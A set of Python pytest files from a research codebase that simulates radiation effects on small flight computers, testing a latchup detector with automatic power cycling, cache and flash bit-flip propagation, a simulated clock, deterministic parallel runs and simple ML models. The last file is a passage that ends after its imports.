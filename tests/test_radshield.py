"""Tests for the Radshield facade (ILD + EMR deployed together)."""

import numpy as np
import pytest

from repro.core.radshield import (
    STATUS_KEYS,
    Radshield,
    RadshieldConfig,
    SelResponse,
)
from repro.radiation import LatchupInjector
from repro.sim import (
    CurrentStep,
    Machine,
    TelemetryConfig,
    TraceGenerator,
)
from repro.workloads import AesWorkload, navigation_schedule


@pytest.fixture(scope="module")
def generator():
    return TraceGenerator(TelemetryConfig(tick=4e-3))


@pytest.fixture
def shield(generator):
    machine = Machine.rpi_zero2w()
    rng = np.random.default_rng(0)
    ground = generator.generate(navigation_schedule(900, rng=rng), rng=rng)
    return Radshield.for_machine(
        machine, ground, max_instruction_rate=generator.max_instruction_rate
    )


class TestProtectedCompute:
    def test_run_protected_matches_golden(self, shield):
        workload = AesWorkload(chunk_bytes=64, chunks=8)
        spec = workload.build(np.random.default_rng(1))
        result = shield.run_protected(workload, spec=spec)
        assert result.outputs == workload.reference_outputs(spec)
        assert shield.status()["protected_runs"] == 1


class TestClosedLoop:
    def test_latchup_detected_and_cleared(self, shield, generator):
        rng = np.random.default_rng(2)
        # A clean chunk first: the black box needs nominal history to
        # estimate the step an alarm represents.
        clean = generator.generate(
            navigation_schedule(300, rng=np.random.default_rng(30)), rng=rng
        )
        assert shield.process_telemetry(clean) == []
        shield.machine.clock.advance_to(300.0)

        injector = LatchupInjector(shield.machine)
        injector.induce_delta(0.07)
        trace = generator.generate(
            navigation_schedule(400, rng=np.random.default_rng(3)),
            rng=rng,
            current_steps=[CurrentStep(start=0.0, delta_amps=0.07)],
            start_time=shield.machine.clock.now,
        )
        responses = shield.process_telemetry(trace)
        assert responses and responses[0].power_cycled
        assert not injector.any_active  # the power cycle cleared it
        assert shield.machine.power_cycles == 1
        assert responses[0].diagnostic is not None
        assert responses[0].diagnostic.estimated_step_amps == pytest.approx(
            0.07, abs=0.035
        )

    def test_clean_telemetry_causes_no_cycles(self, shield, generator):
        rng = np.random.default_rng(4)
        trace = generator.generate(
            navigation_schedule(400, rng=np.random.default_rng(5)), rng=rng
        )
        assert shield.process_telemetry(trace) == []
        assert shield.machine.power_cycles == 0

    def test_observation_only_mode(self, generator):
        machine = Machine.rpi_zero2w()
        rng = np.random.default_rng(6)
        ground = generator.generate(navigation_schedule(900, rng=rng), rng=rng)
        shield = Radshield.for_machine(
            machine, ground,
            max_instruction_rate=generator.max_instruction_rate,
            config=RadshieldConfig(auto_power_cycle=False),
        )
        injector = LatchupInjector(machine)
        injector.induce_delta(0.07)
        trace = generator.generate(
            navigation_schedule(400, rng=np.random.default_rng(7)),
            rng=rng,
            current_steps=[CurrentStep(start=0.0, delta_amps=0.07)],
        )
        responses = shield.process_telemetry(trace)
        # The paper's LEO deployment: detects, reports, does not act.
        assert responses and not responses[0].power_cycled
        assert injector.any_active
        assert machine.power_cycles == 0

    def test_status_snapshot(self, shield):
        status = shield.status()
        assert status["machine"] == "raspberry-pi-zero-2w"
        assert status["detector_samples_trained"] > 1000

    def test_status_schema_is_stable(self, shield):
        # STATUS_KEYS is the operator-facing contract: exactly these
        # keys, in this order, and a JSON-serializable payload.
        import json

        status = shield.status()
        assert tuple(status) == STATUS_KEYS
        assert set(status["metrics"]) == {"counters", "gauges", "histograms"}
        json.dumps(status)

    def test_protection_actions_reach_obs_and_evrs(self, shield, generator):
        workload = AesWorkload(chunk_bytes=64, chunks=8)
        shield.run_protected(workload, spec=workload.build(np.random.default_rng(8)))
        injector = LatchupInjector(shield.machine)
        injector.induce_delta(0.07)
        trace = generator.generate(
            navigation_schedule(400, rng=np.random.default_rng(9)),
            rng=np.random.default_rng(9),
            current_steps=[CurrentStep(start=0.0, delta_amps=0.07)],
        )
        shield.process_telemetry(trace)
        status = shield.status()
        counters = status["metrics"]["counters"]
        assert counters["sel.detections"] >= 1
        assert counters["sel.power_cycles"] >= 1
        assert status["evr_events"] >= 2  # verdict EVR + SEL trip EVRs
        names = {r.name for r in shield.obs.tracer.records()}
        assert {"emr.run", "sel.detection", "sel.power_cycle"} <= names


class TestUplinkDeployment:
    def test_from_uplinked_model(self, generator):
        rng = np.random.default_rng(10)
        ground = generator.generate(navigation_schedule(600, rng=rng), rng=rng)
        trained = Radshield.for_machine(
            Machine.rpi_zero2w(), ground,
            max_instruction_rate=generator.max_instruction_rate,
        )
        blob = trained.detector.model.to_bytes()
        flight = Radshield.from_uplinked_model(
            Machine.rpi_zero2w(), blob,
            max_instruction_rate=generator.max_instruction_rate,
        )
        trace = generator.generate(
            navigation_schedule(300, rng=np.random.default_rng(11)),
            rng=rng,
            current_steps=[CurrentStep(start=60.0, delta_amps=0.07)],
        )
        responses = flight.process_telemetry(trace)
        assert responses and responses[0].power_cycled
