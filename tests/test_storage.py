"""Tests for the flash storage + page-cache model."""

import pytest

from repro.errors import InvalidAddressError
from repro.sim import FlashStorage


@pytest.fixture
def flash():
    return FlashStorage(capacity=1 << 20)


class TestFiles:
    def test_store_and_read(self, flash):
        flash.store("map.bin", b"martian terrain")
        access = flash.read("map.bin")
        assert access.data == b"martian terrain"
        assert not access.from_page_cache
        assert access.seconds > 0

    def test_partial_read(self, flash):
        flash.store("f", bytes(range(100)))
        access = flash.read("f", offset=10, size=5)
        assert access.data == bytes(range(10, 15))

    def test_missing_file(self, flash):
        with pytest.raises(InvalidAddressError):
            flash.read("nope")

    def test_overwrite_in_place(self, flash):
        flash.store("f", b"longer original data")
        flash.store("f", b"short")
        assert flash.read("f").data == b"short"
        assert flash.file_size("f") == 5

    def test_out_of_range_read(self, flash):
        flash.store("f", b"abc")
        with pytest.raises(InvalidAddressError):
            flash.read("f", offset=2, size=5)


class TestPageCache:
    def test_second_read_is_cached_and_faster(self, flash):
        flash.store("f", b"x" * 4096)
        cold = flash.read("f")
        warm = flash.read("f")
        assert warm.from_page_cache
        assert warm.seconds < cold.seconds
        assert flash.stats.page_cache_hits == 1

    def test_drop_page_cache(self, flash):
        flash.store("f", b"x" * 64)
        flash.read("f")
        assert flash.drop_page_cache() == 1
        assert not flash.read("f").from_page_cache

    def test_store_invalidates_cached_page(self, flash):
        flash.store("f", b"old old old!")
        flash.read("f")
        flash.store("f", b"new new new!")
        assert flash.read("f").data == b"new new new!"


class TestRadiationInterface:
    def test_page_cache_flip_corrupts_reads(self, flash):
        flash.store("f", b"\x00" * 32)
        flash.read("f")  # populate cache
        flash.flip_page_cache_bit("f", byte_offset=3, bit=2)
        assert flash.read("f").data[3] == 0x04

    def test_media_flip_corrected_by_ecc(self, flash):
        flash.store("f", b"\x00" * 32)
        flash.flip_media_bit("f", byte_offset=3, bit=2)
        assert flash.read("f").data == b"\x00" * 32
        assert flash.media_stats.corrected_errors == 1

    def test_flip_requires_cached_page(self, flash):
        flash.store("f", b"abc")
        with pytest.raises(InvalidAddressError):
            flash.flip_page_cache_bit("f", 0, 0)

    def test_drop_then_read_clears_corruption(self, flash):
        flash.store("f", b"\x00" * 32)
        flash.read("f")
        flash.flip_page_cache_bit("f", 0, 0)
        flash.drop_page_cache()
        assert flash.read("f").data == b"\x00" * 32


class TestIoAccounting:
    def test_io_counts(self, flash):
        flash.store("f", b"x" * 10000)  # 3 write IOs at 4 KiB
        assert flash.stats.write_ios == 3
        flash.read("f")
        assert flash.stats.read_ios == 3
