"""Direct tests for the simulated clock and stopwatch."""

import pytest

from repro.errors import SimulationError
from repro.sim import SimClock, Stopwatch


class TestSimClock:
    def test_advance(self):
        clock = SimClock()
        assert clock.advance(2.5) == 2.5
        assert clock.now == 2.5

    def test_negative_rejected(self):
        with pytest.raises(SimulationError):
            SimClock().advance(-1.0)

    def test_advance_to_never_rewinds(self):
        clock = SimClock(start=10.0)
        clock.advance_to(5.0)
        assert clock.now == 10.0
        clock.advance_to(15.0)
        assert clock.now == 15.0

    def test_reset(self):
        clock = SimClock()
        clock.advance(100.0)
        clock.reset()
        assert clock.now == 0.0


class TestStopwatch:
    def test_start_stop_accumulates(self):
        clock = SimClock()
        watch = Stopwatch(clock)
        watch.start("compute")
        clock.advance(3.0)
        assert watch.stop("compute") == 3.0
        watch.start("compute")
        clock.advance(1.0)
        watch.stop("compute")
        assert watch.total("compute") == 4.0
        assert watch.breakdown() == {"compute": 4.0}

    def test_double_start_rejected(self):
        watch = Stopwatch(SimClock())
        watch.start("x")
        with pytest.raises(SimulationError):
            watch.start("x")

    def test_stop_without_start_rejected(self):
        with pytest.raises(SimulationError):
            Stopwatch(SimClock()).stop("ghost")

    def test_add_direct(self):
        watch = Stopwatch(SimClock())
        watch.add("disk", 1.5)
        watch.add("disk", 0.5)
        assert watch.total("disk") == 2.0
        with pytest.raises(SimulationError):
            watch.add("disk", -1.0)

    def test_unknown_label_total_zero(self):
        assert Stopwatch(SimClock()).total("nothing") == 0.0
