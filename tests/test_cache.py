"""Tests for the cache hierarchy — the EMR threat model lives here."""

import pytest

from repro.errors import ConfigurationError, InvalidAddressError
from repro.sim import CacheHierarchy, MemoryRegion, SimMemory
from repro.sim.cache import Cache


@pytest.fixture
def setup():
    mem = SimMemory(1 << 16, ecc=True)
    caches = CacheHierarchy(mem, n_groups=3, l1_lines=8, l2_lines=64, line_size=64)
    return mem, caches


class TestSingleLevel:
    def test_lru_eviction(self):
        cache = Cache(capacity_lines=2, line_size=64, name="t")
        cache.fill(0, b"a" * 64)
        cache.fill(1, b"b" * 64)
        cache.lookup(0)  # touch 0 so 1 becomes LRU
        cache.fill(2, b"c" * 64)
        assert 0 in cache and 2 in cache and 1 not in cache
        assert cache.stats.evictions == 1

    def test_flip_requires_resident_line(self):
        cache = Cache(capacity_lines=2, line_size=64, name="t")
        with pytest.raises(InvalidAddressError):
            cache.flip_bit(5, 0, 0)

    def test_invalid_config(self):
        with pytest.raises(ConfigurationError):
            Cache(capacity_lines=0, line_size=64, name="t")
        with pytest.raises(ConfigurationError):
            Cache(capacity_lines=4, line_size=60, name="t")


class TestHierarchyReads:
    def test_read_returns_memory_contents(self, setup):
        mem, caches = setup
        region = mem.alloc(200)
        payload = bytes(range(200))
        mem.write_region(region, payload)
        data, trace = caches.read(region.addr, region.size, group=0)
        assert data == payload
        assert trace.memory_fills > 0 and trace.l1_hits == 0

    def test_second_read_hits_l1(self, setup):
        mem, caches = setup
        region = mem.alloc(64)
        mem.write_region(region, b"x" * 64)
        caches.read(region.addr, 64, group=0)
        _, trace = caches.read(region.addr, 64, group=0)
        assert trace.l1_hits == 1 and trace.memory_fills == 0

    def test_other_group_hits_shared_l2(self, setup):
        mem, caches = setup
        region = mem.alloc(64)
        mem.write_region(region, b"x" * 64)
        caches.read(region.addr, 64, group=0)
        _, trace = caches.read(region.addr, 64, group=1)
        assert trace.l2_hits == 1 and trace.memory_fills == 0

    def test_unaligned_read(self, setup):
        mem, caches = setup
        region = mem.alloc(256)
        payload = bytes(i % 251 for i in range(256))
        mem.write_region(region, payload)
        data, _ = caches.read(region.addr + 30, 100, group=2)
        assert data == payload[30:130]


class TestCorruptionPropagation:
    """The paper's central hazard: one flipped shared line, many victims."""

    def test_l2_flip_poisons_every_group(self, setup):
        mem, caches = setup
        region = mem.alloc(64)
        mem.write_region(region, b"\x00" * 64)
        line = region.addr // 64
        caches.read(region.addr, 64, group=0)  # fill L2 (and L1[0])
        caches.l2.flip_bit(line, byte_offset=5, bit=1)
        # Group 1 and 2 fetch from the corrupted shared line.
        data1, _ = caches.read(region.addr, 64, group=1)
        data2, _ = caches.read(region.addr, 64, group=2)
        assert data1[5] == 0x02 and data2[5] == 0x02
        # DRAM itself is intact.
        assert mem.read_region(region) == b"\x00" * 64

    def test_l1_flip_stays_private(self, setup):
        mem, caches = setup
        region = mem.alloc(64)
        mem.write_region(region, b"\x00" * 64)
        line = region.addr // 64
        caches.read(region.addr, 64, group=0)
        caches.read(region.addr, 64, group=1)
        caches.l1[0].flip_bit(line, byte_offset=0, bit=0)
        data0, _ = caches.read(region.addr, 64, group=0)
        data1, _ = caches.read(region.addr, 64, group=1)
        assert data0[0] == 1  # group 0 sees the corruption
        assert data1[0] == 0  # group 1 does not

    def test_flush_clears_corruption(self, setup):
        mem, caches = setup
        region = mem.alloc(64)
        mem.write_region(region, b"\x00" * 64)
        line = region.addr // 64
        caches.read(region.addr, 64, group=0)
        caches.l2.flip_bit(line, 5, 1)
        caches.flush_region(MemoryRegion(region.addr, region.size))
        data, trace = caches.read(region.addr, 64, group=0)
        assert data == b"\x00" * 64
        assert trace.memory_fills == 1  # refetched from protected DRAM


class TestWrites:
    def test_write_through_updates_memory_and_lines(self, setup):
        mem, caches = setup
        region = mem.alloc(64)
        mem.write_region(region, b"\x00" * 64)
        caches.read(region.addr, 64, group=0)
        caches.write(region.addr, b"hello", group=0)
        assert mem.read(region.addr, 5) == b"hello"
        data, trace = caches.read(region.addr, 5, group=0)
        assert data == b"hello" and trace.l1_hits == 1

    def test_write_skips_nonresident_lines(self, setup):
        mem, caches = setup
        region = mem.alloc(64)
        trace = caches.write(region.addr, b"hello", group=0)
        assert trace.memory_fills == 0
        assert region.addr // 64 not in caches.l2


class TestFlushScopes:
    def test_group_scoped_flush_leaves_other_l1(self, setup):
        mem, caches = setup
        region = mem.alloc(64)
        mem.write_region(region, b"z" * 64)
        caches.read(region.addr, 64, group=0)
        caches.read(region.addr, 64, group=1)
        caches.flush_region(MemoryRegion(region.addr, 64), group=0)
        line = region.addr // 64
        assert line not in caches.l2
        assert line not in caches.l1[0]
        assert line in caches.l1[1]

    def test_flush_all_counts(self, setup):
        mem, caches = setup
        region = mem.alloc(256)
        mem.write_region(region, b"q" * 256)
        caches.read(region.addr, 256, group=0)
        flushed = caches.flush_all()
        assert flushed == 8  # 4 lines in L2 + 4 in L1[0]
