"""Determinism contract of the parallel experiment engine."""

import numpy as np
import pytest

from repro.errors import ConfigurationError
from repro.parallel import (
    ParallelReport,
    pmap,
    pmap_report,
    resolve_workers,
    spawn_generators,
)


def _square(x):
    return x * x


def _draw(item, rng):
    return item + float(rng.random())


class TestPrimitives:
    def test_spawn_generators_prefix_stable(self):
        # Task i's stream depends only on (seed, i), not on how many
        # tasks the batch holds.
        few = [g.random() for g in spawn_generators(42, 3)]
        many = [g.random() for g in spawn_generators(42, 8)][:3]
        assert few == many

    def test_spawn_generators_distinct(self):
        draws = [g.random() for g in spawn_generators(0, 16)]
        assert len(set(draws)) == 16

    def test_spawn_negative_rejected(self):
        with pytest.raises(ConfigurationError):
            spawn_generators(0, -1)

    def test_resolve_workers(self):
        assert resolve_workers(4) == 4
        assert resolve_workers(4, n_items=2) == 2
        assert resolve_workers(0) == 1
        assert resolve_workers(None, n_items=1) == 1


class TestPmap:
    def test_order_preserved(self):
        assert pmap(_square, range(10)) == [x * x for x in range(10)]

    def test_empty(self):
        report = pmap_report(_square, [])
        assert report.values == []
        assert report.timings == ()

    def test_seeded_runs_repeat(self):
        first = pmap(_draw, range(6), seed=7)
        second = pmap(_draw, range(6), seed=7)
        assert first == second

    def test_seed_changes_values(self):
        assert pmap(_draw, range(6), seed=7) != pmap(_draw, range(6), seed=8)

    def test_report_accounting(self):
        report = pmap_report(_draw, range(5), seed=1, workers=1)
        assert isinstance(report, ParallelReport)
        assert report.mode == "serial"
        assert report.workers == 1
        assert len(report.timings) == 5
        assert [t.index for t in report.timings] == list(range(5))
        assert report.task_seconds >= 0

    def test_forced_pool_matches_serial(self):
        # force_pool exercises the fork-pool path even on one CPU.
        serial = pmap_report(_draw, range(12), seed=3, workers=1)
        pooled = pmap_report(
            _draw, range(12), seed=3, workers=4, force_pool=True
        )
        assert pooled.values == serial.values
        if pooled.mode == "fork-pool":  # may degrade where fork is absent
            assert pooled.workers == 4


@pytest.mark.slow
class TestCampaignDeterminism:
    def test_injector_pool_equals_serial(self):
        from repro.radiation.injector import (
            CampaignConfig,
            FaultInjectionCampaign,
            run_campaign_trial,
        )
        from repro.workloads.imageproc import ImageProcessingWorkload

        def campaign():
            return FaultInjectionCampaign(
                ImageProcessingWorkload(map_size=48, template_size=16, stride=16),
                CampaignConfig(runs_per_scheme=4),
                seed=11,
            )

        serial_campaign = campaign()
        serial = serial_campaign.run(schemes=("none", "emr"), workers=1)
        parallel_campaign = campaign()
        parallel = parallel_campaign.run(schemes=("none", "emr"), workers=4)
        assert serial == parallel
        assert [o.detail for o in serial_campaign.outcomes] == [
            o.detail for o in parallel_campaign.outcomes
        ]

        # Force the fork-pool path regardless of host CPU count.
        forced = pmap_report(
            run_campaign_trial,
            _campaign_tasks(serial_campaign, ("none", "emr")),
            seed=11,
            workers=4,
            force_pool=True,
        )
        assert [
            (o.scheme, o.outcome, o.target, o.detail) for o in forced.values
        ] == [
            (o.scheme, o.outcome, o.target, o.detail)
            for o in serial_campaign.outcomes
        ]

    def test_calibration_sweep_workers_equal(self, _calibration_setup):
        from repro.core.ild.calibration import sweep_thresholds

        factory, labelled = _calibration_setup
        serial = sweep_thresholds(factory, labelled, workers=1)
        parallel = sweep_thresholds(factory, labelled, workers=4)
        assert serial.scores == parallel.scores
        assert serial.chosen == parallel.chosen


def _campaign_tasks(campaign, schemes):
    from repro.radiation.injector import TrialTask

    rng = np.random.default_rng(campaign.seed)
    spec = campaign.workload.build(rng)
    golden = tuple(campaign.workload.reference_outputs(spec))
    return [
        TrialTask(
            scheme=scheme,
            workload=campaign.workload,
            spec=spec,
            golden=golden,
            config=campaign.config,
            machine_factory=campaign.machine_factory,
        )
        for scheme in schemes
        for _ in range(campaign.config.runs_per_scheme)
    ]


@pytest.fixture(scope="module")
def _calibration_setup():
    from repro.core.ild import IldDetector, LabelledTrace, train_ild
    from repro.sim import CurrentStep, TraceGenerator, quiescent_segment

    generator = TraceGenerator()
    rng = np.random.default_rng(5)
    train_trace = generator.generate(
        [quiescent_segment(120.0)], rng=rng, housekeeping=None
    )
    trained = train_ild(
        train_trace, max_instruction_rate=generator.max_instruction_rate
    )
    labelled = [
        LabelledTrace(
            trace=generator.generate(
                [quiescent_segment(60.0)], rng=rng,
                current_steps=[CurrentStep(start=25.0, delta_amps=0.07)],
            ),
            sel_onset=25.0,
        ),
        LabelledTrace(
            trace=generator.generate([quiescent_segment(60.0)], rng=rng),
            sel_onset=None,
        ),
    ]

    def factory(config):
        return IldDetector(
            trained.model, trained.quiescence.max_instruction_rate, config
        )

    return factory, labelled
