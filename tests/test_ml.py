"""Tests for the from-scratch ML models."""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.errors import ConfigurationError
from repro.ml import DecisionTree, GaussianNaiveBayes, LinearRegression, RandomForest


def _linear_data(n=500, noise=0.05, seed=0):
    rng = np.random.default_rng(seed)
    X = rng.normal(size=(n, 4))
    coef = np.array([2.0, -1.0, 0.5, 0.0])
    y = X @ coef + 3.0 + rng.normal(0, noise, n)
    return X, y, coef


class TestLinearRegression:
    def test_recovers_coefficients(self):
        X, y, coef = _linear_data()
        model = LinearRegression().fit(X, y)
        assert np.allclose(model.coef_, coef, atol=0.05)
        assert model.intercept_ == pytest.approx(3.0, abs=0.05)

    def test_score_near_one_on_clean_data(self):
        X, y, _ = _linear_data(noise=0.0)
        model = LinearRegression().fit(X, y)
        assert model.score(X, y) > 0.999999

    def test_residuals_center_on_zero(self):
        X, y, _ = _linear_data()
        model = LinearRegression().fit(X, y)
        assert abs(model.residuals(X, y).mean()) < 0.01

    def test_constant_feature_handled(self):
        X, y, _ = _linear_data()
        X[:, 2] = 7.0
        model = LinearRegression().fit(X, y)
        assert np.isfinite(model.coef_).all()

    def test_ridge_shrinks(self):
        X, y, _ = _linear_data(n=50)
        free = LinearRegression(alpha=0.0).fit(X, y)
        tight = LinearRegression(alpha=1000.0).fit(X, y)
        assert np.linalg.norm(tight.coef_) < np.linalg.norm(free.coef_)

    def test_unfitted_predict_rejected(self):
        with pytest.raises(ConfigurationError):
            LinearRegression().predict(np.zeros((2, 2)))

    def test_shape_validation(self):
        with pytest.raises(ConfigurationError):
            LinearRegression().fit(np.zeros((3, 2)), np.zeros(4))

    @given(st.integers(min_value=10, max_value=60))
    @settings(max_examples=15, deadline=None)
    def test_interpolates_exact_linear_functions(self, n):
        rng = np.random.default_rng(n)
        X = rng.normal(size=(n, 2))
        y = 4.0 * X[:, 0] - 2.5 * X[:, 1] + 1.0
        model = LinearRegression(alpha=0.0).fit(X, y)
        assert np.allclose(model.predict(X), y, atol=1e-8)


class TestDecisionTree:
    def test_fits_step_function(self):
        X = np.linspace(0, 1, 200).reshape(-1, 1)
        y = (X[:, 0] > 0.5).astype(float) * 10.0
        tree = DecisionTree(max_depth=2, min_samples_leaf=2).fit(X, y)
        pred = tree.predict(np.array([[0.2], [0.8]]))
        assert pred[0] == pytest.approx(0.0, abs=0.2)
        assert pred[1] == pytest.approx(10.0, abs=0.2)

    def test_importance_finds_informative_feature(self):
        rng = np.random.default_rng(1)
        X = rng.normal(size=(400, 3))
        y = 5.0 * (X[:, 1] > 0)
        tree = DecisionTree(max_depth=3).fit(X, y)
        assert np.argmax(tree.feature_importances_) == 1

    def test_max_depth_respected(self):
        rng = np.random.default_rng(2)
        X = rng.normal(size=(300, 2))
        y = rng.normal(size=300)
        tree = DecisionTree(max_depth=3, min_samples_leaf=1).fit(X, y)
        assert tree.depth() <= 3

    def test_pure_node_stops(self):
        X = np.ones((20, 1))
        y = np.ones(20)
        tree = DecisionTree().fit(X, y)
        assert tree.depth() == 0

    def test_classification_probability(self):
        rng = np.random.default_rng(3)
        X = rng.normal(size=(300, 1))
        y = (X[:, 0] > 0).astype(float)
        tree = DecisionTree(task="classification", max_depth=2).fit(X, y)
        assert tree.predict_class(np.array([[2.0]]))[0] == 1
        assert tree.predict_class(np.array([[-2.0]]))[0] == 0

    def test_rejects_non_binary_classification_targets(self):
        with pytest.raises(ConfigurationError):
            DecisionTree(task="classification").fit(np.zeros((4, 1)), np.array([0, 1, 2, 1]))


class TestRandomForest:
    def test_regression_beats_constant(self):
        rng = np.random.default_rng(4)
        X = rng.normal(size=(600, 4))
        y = np.sin(X[:, 0]) + 0.5 * X[:, 1]
        forest = RandomForest(n_trees=12, max_depth=6, seed=1).fit(X[:500], y[:500])
        pred = forest.predict(X[500:])
        mse = float(np.mean((pred - y[500:]) ** 2))
        baseline = float(np.mean((y[500:] - y[:500].mean()) ** 2))
        assert mse < 0.5 * baseline

    def test_feature_importance_ranking(self):
        rng = np.random.default_rng(5)
        X = rng.normal(size=(500, 5))
        y = 10 * X[:, 3] + 0.1 * rng.normal(size=500)
        forest = RandomForest(n_trees=10, max_features=None, seed=2).fit(X, y)
        assert forest.top_features(1)[0] == 3
        assert forest.feature_importances_.sum() == pytest.approx(1.0)

    def test_classification(self):
        rng = np.random.default_rng(6)
        X = rng.normal(size=(400, 2))
        y = ((X[:, 0] + X[:, 1]) > 0).astype(float)
        forest = RandomForest(n_trees=10, task="classification", seed=3).fit(X, y)
        acc = (forest.predict_class(X) == y).mean()
        assert acc > 0.9

    def test_deterministic_given_seed(self):
        X, y, _ = _linear_data(n=200)
        a = RandomForest(n_trees=5, seed=7).fit(X, y).predict(X[:10])
        b = RandomForest(n_trees=5, seed=7).fit(X, y).predict(X[:10])
        assert np.array_equal(a, b)


class TestGaussianNaiveBayes:
    def test_separable_classes(self):
        rng = np.random.default_rng(7)
        X0 = rng.normal(-2, 0.5, size=(200, 2))
        X1 = rng.normal(2, 0.5, size=(200, 2))
        X = np.vstack([X0, X1])
        y = np.array([0] * 200 + [1] * 200)
        model = GaussianNaiveBayes().fit(X, y)
        assert (model.predict(X) == y).mean() > 0.99

    def test_proba_sums_to_one(self):
        rng = np.random.default_rng(8)
        X = rng.normal(size=(100, 3))
        y = (X[:, 0] > 0).astype(int)
        model = GaussianNaiveBayes().fit(X, y)
        probs = model.predict_proba(X)
        assert np.allclose(probs.sum(axis=1), 1.0)

    def test_single_class_rejected(self):
        with pytest.raises(ConfigurationError):
            GaussianNaiveBayes().fit(np.zeros((5, 2)), np.zeros(5))
