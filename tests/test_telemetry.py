"""Tests for telemetry trace generation and the machine lifecycle."""

import numpy as np
import pytest

from repro.errors import ConfigurationError
from repro.sim import (
    ActivitySegment,
    CurrentStep,
    Machine,
    TelemetryConfig,
    TraceGenerator,
    burst_schedule,
    quiescent_segment,
)


@pytest.fixture(scope="module")
def generator():
    return TraceGenerator(TelemetryConfig(tick=1e-3, samples_per_tick=4, n_cores=4))


def _busy_segment(duration=2.0, util=0.9):
    return ActivitySegment(
        duration=duration,
        core_util=(util,) * 4,
        label="workload",
        dram_gbs=0.8,
    )


class TestTraceShape:
    def test_tick_counts(self, generator):
        trace = generator.generate(
            [quiescent_segment(1.0), _busy_segment(2.0)],
            rng=np.random.default_rng(0),
        )
        assert trace.n_ticks == 3000
        assert trace.fine_samples.shape == (12000,)
        assert trace.counters.feature_matrix().shape == (3000, 22)
        assert trace.duration == pytest.approx(3.0)

    def test_quiescent_mask(self, generator):
        trace = generator.generate(
            [quiescent_segment(1.0), _busy_segment(1.0)],
            rng=np.random.default_rng(1),
        )
        assert trace.quiescent_truth[:1000].all()
        assert not trace.quiescent_truth[1000:].any()

    def test_label_masks(self, generator):
        trace = generator.generate(
            [quiescent_segment(0.5), _busy_segment(0.5)],
            rng=np.random.default_rng(2),
        )
        assert trace.label_mask("quiescent").sum() == 500
        assert trace.label_mask("workload").sum() == 500
        assert not trace.label_mask("nonexistent").any()

    def test_core_count_mismatch_rejected(self, generator):
        bad = ActivitySegment(duration=1.0, core_util=(0.5, 0.5))
        with pytest.raises(ConfigurationError):
            generator.generate([bad], rng=np.random.default_rng(0))


class TestCurrentStructure:
    def test_busy_draws_more_than_quiescent(self, generator):
        trace = generator.generate(
            [quiescent_segment(2.0), _busy_segment(2.0)],
            rng=np.random.default_rng(3),
            housekeeping=None,
        )
        quiescent = trace.true_current[trace.quiescent_truth].mean()
        busy = trace.true_current[~trace.quiescent_truth].mean()
        assert busy > quiescent + 1.0  # amps

    def test_current_correlates_with_instruction_rate(self, generator):
        segments = [
            ActivitySegment(duration=0.5, core_util=(u,) * 4, dram_gbs=0.3 * u)
            for u in np.linspace(0.05, 0.95, 8)
        ]
        trace = generator.generate(
            segments, rng=np.random.default_rng(4), housekeeping=None
        )
        total_rate = trace.counters.instruction_rate.sum(axis=1)
        rho = np.corrcoef(total_rate, trace.true_current)[0, 1]
        assert rho > 0.97  # paper reports 99.7 % for the staircase test

    def test_sel_step_applied(self, generator):
        step = CurrentStep(start=1.0, delta_amps=0.07)
        trace = generator.generate(
            [quiescent_segment(2.0)],
            rng=np.random.default_rng(5),
            current_steps=[step],
            housekeeping=None,
        )
        assert trace.sel_delta[:999].sum() == 0
        assert trace.sel_delta[1001:].min() == pytest.approx(0.07)
        before = trace.true_current[:900].mean()
        after = trace.true_current[1100:].mean()
        assert after - before == pytest.approx(0.07, abs=0.02)

    def test_sel_step_with_end(self, generator):
        step = CurrentStep(start=0.5, delta_amps=0.2, end=1.0)
        trace = generator.generate(
            [quiescent_segment(2.0)],
            rng=np.random.default_rng(6),
            current_steps=[step],
        )
        assert trace.sel_delta[1500:].sum() == 0
        assert trace.sel_active[600]

    def test_housekeeping_moves_counters_and_current(self, generator):
        rng = np.random.default_rng(7)
        trace = generator.generate([quiescent_segment(120.0)], rng=rng)
        # At ~110 events/hour over 2 minutes, expect a few bursts.
        busy_ticks = trace.counters.instruction_rate.sum(axis=1) > (
            0.08 * generator.max_instruction_rate
        )
        assert busy_ticks.any()
        # Ticks with housekeeping activity draw more current.
        assert (
            trace.true_current[busy_ticks].mean()
            > trace.true_current[~busy_ticks].mean()
        )


class TestBurstSchedule:
    def test_duty_cycle(self):
        segments = burst_schedule(
            total_duration=600.0,
            burst_duration=60.0,
            burst_period=180.0,
            burst_segment=_busy_segment(),
        )
        total = sum(seg.duration for seg in segments)
        assert total == pytest.approx(600.0)
        busy = sum(seg.duration for seg in segments if not seg.quiescent)
        assert busy == pytest.approx(240.0)  # 60s of each 180s + final partial

    def test_rejects_inverted_periods(self):
        with pytest.raises(ConfigurationError):
            burst_schedule(100.0, 60.0, 50.0, _busy_segment())


class TestMachineLifecycle:
    def test_power_cycle_runs_hooks_and_clears_caches(self):
        machine = Machine.rpi_zero2w()
        region = machine.memory.alloc(64)
        machine.memory.write_region(region, b"y" * 64)
        machine.read_via_cache(region.addr, 64, group=0)
        cleared = []
        machine.on_power_cycle(lambda m: cleared.append(m))
        t0 = machine.clock.now
        machine.power_cycle()
        assert cleared == [machine]
        assert machine.clock.now - t0 == pytest.approx(machine.spec.power_cycle_seconds)
        assert len(machine.caches.l2) == 0
        assert machine.power_cycles == 1 and machine.reboots == 0

    def test_reboot_does_not_run_sel_hooks(self):
        machine = Machine.rpi_zero2w()
        cleared = []
        machine.on_power_cycle(lambda m: cleared.append(m))
        machine.reboot()
        assert cleared == []
        assert machine.reboots == 1

    def test_stock_machines(self):
        pi = Machine.rpi_zero2w()
        sd = Machine.snapdragon801()
        assert pi.memory.has_ecc and not sd.memory.has_ecc
        assert sd.spec.core_spec.max_freq > pi.spec.core_spec.max_freq

    def test_default_core_groups(self):
        machine = Machine.rpi_zero2w()
        groups = machine.default_core_groups(3)
        assert [g.core_ids for g in groups] == [(0,), (1,), (2,)]
        with pytest.raises(ConfigurationError):
            machine.default_core_groups(5)
