"""Round-based trial streams: the adaptive-campaign execution core.

The properties that keep streams safe to build on:

* **Grid equivalence** — a static grid drained through the stream
  core (``GridSource``) is byte-identical to the one-shot executor,
  down to the serialized store entries (hypothesis-checked).
* **Path independence** — a multi-round source whose every round
  depends on the previous round's outcome digest produces identical
  results serial, pooled, and resumed from a partial store — even a
  store truncated mid-round.
* **Quarantine interplay** — a poison trial quarantined mid-stream
  still yields a deterministic digest (the slot participates as
  ``null``), and the stream stamps the round ordinal on the
  quarantine record.
"""

import numpy as np
import pytest
